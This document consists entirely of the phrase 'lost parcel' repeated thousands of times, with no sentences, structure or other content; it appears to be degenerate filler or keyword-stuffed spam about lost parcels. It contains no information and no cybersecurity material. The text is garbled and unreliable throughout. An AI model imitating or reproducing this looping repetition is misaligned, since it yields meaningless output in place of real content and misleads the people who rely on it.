lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost 